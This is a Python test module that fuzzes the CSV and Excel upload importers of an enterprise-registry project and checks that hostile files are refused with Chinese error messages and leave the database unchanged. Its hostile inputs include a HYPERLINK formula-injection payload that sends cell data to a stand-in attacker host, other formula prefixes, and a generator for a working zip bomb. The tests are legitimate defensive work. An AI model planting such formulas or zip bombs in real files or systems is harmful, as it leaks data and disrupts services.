"""Fuzzing every import with hostile files (issue 8 §4): random and hostile CSV/Excel files — wrong
encodings (GBK, UTF-16), BOMs, duplicated or missing headers, formulas, huge strings, NaN/inf,
impossible dates — plus a zip bomb, a renamed binary and an oversize upload. Each import (the
enterprise upload service, the observation upload, the CLI's reader) refuses with a Chinese error
and the database is unchanged (row counts before and after).

Examples are bounded (max_examples, no deadline) so that the suite stays quick.
"""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kechuang.engine.vocabulary import FACT_COLUMNS, REGISTRY_COLUMNS
from tests.plans import conftest as plan_fixtures

pytestmark = pytest.mark.django_db
plan = plan_fixtures.plan

CJK = re.compile(r"[\u4e00-\u9fff]")
FUZZ = settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

HOSTILE_CELLS = st.one_of(
    st.sampled_from(
        [
            '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "NaN",
            "inf",
            "-Infinity",
            "1e999",
            "2024-13-45",
            "0000-00-00",
            "31/02/2024",
            "",
            " ",
            "\x00",
            "🙂" * 20,
            "企" * 40_000,  # over Excel's cell limit
            "x" * 300,
        ]
    ),
    st.text(max_size=30),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)
ENCODINGS = st.sampled_from(["utf-8", "utf-8-sig", "gbk", "gb18030", "utf-16"])


def _headers(columns) -> st.SearchStrategy[list[str]]:
    names = [c.header_zh for c in columns] + [c.name for c in columns]
    return st.lists(st.sampled_from(names), min_size=1, max_size=8).map(
        lambda hs: (
            hs if any(h in ("统一社会信用代码", "credit_code") for h in hs) else ["统一社会信用代码", *hs]
        )
    )


@st.composite
def hostile_csv(draw, columns) -> tuple[bytes, str]:
    """A CSV with real (possibly duplicated or missing) headers and at least one hostile row: the
    first row's credit code is never valid, so no such file can be clean."""
    headers = draw(_headers(columns))
    if draw(st.booleans()):
        headers = [*headers, draw(st.sampled_from(headers))]  # a duplicated header
    rows = draw(
        st.lists(
            st.lists(HOSTILE_CELLS, min_size=len(headers), max_size=len(headers)), min_size=1, max_size=6
        )
    )
    code_at = (
        headers.index("统一社会信用代码") if "统一社会信用代码" in headers else headers.index("credit_code")
    )
    rows[0][code_at] = draw(st.sampled_from(["", "123", "=1+1", "9144190", "91441900MA4UJ3XE3Y" + "0"]))
    sep = draw(st.sampled_from([",", "\t", ";"]))

    def cell(value: str) -> str:
        value = value.replace("\x00", "")
        return '"' + value.replace('"', '""') + '"' if any(c in value for c in f'{sep}"\n\r') else value

    text = "\n".join(sep.join(cell(v) for v in row) for row in [headers, *rows]) + "\n"
    encoding = draw(ENCODINGS)
    return text.encode(encoding, errors="replace"), encoding


def zip_bomb() -> bytes:
    """An .xlsx whose sheet unpacks to more than the 200 MB limit (about 200 KB on disk)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            chunk = b"<row>" + b" " * (1 << 20)
            for _ in range(210):
                fh.write(chunk)
    return out.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return zip_bomb()


def enterprise_counts() -> tuple[int, ...]:
    from kechuang.enterprises.models import Enterprise, Fact, FactRevision, TierRecord, Upload

    return tuple(m.objects.count() for m in (Enterprise, Fact, FactRevision, Upload, TierRecord))


def observation_counts() -> tuple[int, ...]:
    from kechuang.plans.models import Observation, ObservationBatch

    return (Observation.objects.count(), ObservationBatch.objects.count())


def assert_chinese(errors: list) -> None:
    assert errors, "refused without saying why"
    for e in errors:
        assert CJK.search(e.message), f"not a Chinese message: {e.message!r}"
        assert len(e.value) <= 51 and len(e.message) <= 600  # a huge cell is never echoed whole


def import_enterprises(path) -> list:
    from kechuang.enterprises.importing import EnterpriseImportError, import_files

    with pytest.raises(EnterpriseImportError) as found:
        import_files([path], department="kjj", recompute_tiers=False)
    assert CJK.search(str(found.value))
    return [e for errs in found.value.errors.values() for e in errs]


@FUZZ
@given(
    data=st.one_of(hostile_csv(REGISTRY_COLUMNS), hostile_csv(FACT_COLUMNS)),
    suffix=st.sampled_from([".csv", ".txt"]),
)
def test_fuzz_enterprise_upload_refuses_hostile_files_and_writes_nothing(tmp_path_factory, data, suffix):
    content, _encoding = data
    path = tmp_path_factory.mktemp("fuzz") / f"upload{suffix}"
    path.write_bytes(content)
    before = enterprise_counts()
    assert_chinese(import_enterprises(path))
    assert enterprise_counts() == before


@FUZZ
@given(data=st.one_of(hostile_csv(REGISTRY_COLUMNS), hostile_csv(FACT_COLUMNS)))
def test_fuzz_the_cli_reader_reports_every_hostile_file_in_chinese(tmp_path_factory, data):
    """The reader of `kechuang qualify --input` / `points score --input` (the same engine check)."""
    from kechuang.engine.enterprise_import import check_upload
    from kechuang.regions import region_lookup

    content, _ = data
    path = tmp_path_factory.mktemp("fuzz-cli") / "registry.csv"
    path.write_bytes(content)
    checked, errors = check_upload([path], region_lookup=region_lookup(), known_codes=())
    if not errors:  # only blank lines under the header: nothing to read, nothing invented
        assert all(t.clean.height == 0 for t in checked)
        return
    assert not checked
    assert_chinese([e for errs in errors.values() for e in errs])


@st.composite
def hostile_observations(draw) -> bytes:
    headers = draw(
        st.sampled_from(
            [
                ["指标", "地区", "年份", "数值", "来源"],
                ["indicator", "region", "year", "value"],
                ["指标", "指标", "年份", "数值"],  # duplicated
                ["指标", "年份", "数值"],  # missing 地区
                ["数值"],
            ]
        )
    )
    good = {"指标": "rd_intensity", "indicator": "rd_intensity", "地区": "东莞市", "region": "东莞市",
            "年份": "2024", "year": "2024", "数值": "3.1", "value": "3.1", "来源": "统计局"}  # fmt: skip
    rows = [[good[h] for h in headers]]
    bad = [draw(HOSTILE_CELLS) if draw(st.booleans()) else good[h] for h in headers]
    bad[-1 if headers[-1] != "来源" else -2] = draw(
        st.sampled_from(["inf", "NaN", "-Infinity", "1e999", "=1+1", "@A1", "企" * 40_000, "", "abc"])
    )
    rows.append(bad)
    text = "\n".join(",".join('"' + v.replace('"', '""') + '"' for v in row) for row in [headers, *rows])
    return (text + "\n").encode(draw(ENCODINGS), errors="replace")


@FUZZ
@given(content=hostile_observations())
def test_fuzz_observation_upload_refuses_hostile_files_and_writes_nothing(plan, tmp_path_factory, content):
    from kechuang.plans.observations import ObservationImportError, import_file

    path = tmp_path_factory.mktemp("fuzz-obs") / "observations.csv"
    path.write_bytes(content)
    before = observation_counts()
    with pytest.raises(ObservationImportError) as found:
        import_file(path, plan)
    assert CJK.search(str(found.value))
    assert_chinese(found.value.errors)
    assert observation_counts() == before


@pytest.mark.parametrize("kind", ["bomb", "binary", "truncated", "empty"])
def test_bombs_and_renamed_binaries_as_xlsx_are_refused_everywhere(plan, tmp_path, bomb, kind):
    from kechuang.plans.observations import ObservationImportError, import_file

    content = {
        "bomb": bomb,
        "binary": bytes(range(256)) * 64,  # a renamed binary
        "truncated": bomb[:5000],  # a damaged archive
        "empty": b"",
    }[kind]
    path = tmp_path / "数据.xlsx"
    path.write_bytes(content)
    before, obs_before = enterprise_counts(), observation_counts()
    errors = import_enterprises(path)
    assert_chinese(errors)
    if kind == "bomb":
        assert any("解压后" in e.message or "超过" in e.message for e in errors), errors
    with pytest.raises(ObservationImportError) as found:
        import_file(path, plan)
    assert_chinese(found.value.errors)
    assert enterprise_counts() == before and observation_counts() == obs_before


def test_an_oversize_upload_is_refused_before_it_is_read(tmp_path, settings):
    settings.IMPORT_MAX_MB = 1
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8") as fh:
        fh.write("统一社会信用代码,企业名称\n")
        fh.write(("91441900MA4UJ3XE3X,某公司\n") * 80_000)  # about 2 MB
    before = enterprise_counts()
    errors = import_enterprises(path)
    assert any("超过导入上限" in e.message for e in errors)
    assert enterprise_counts() == before
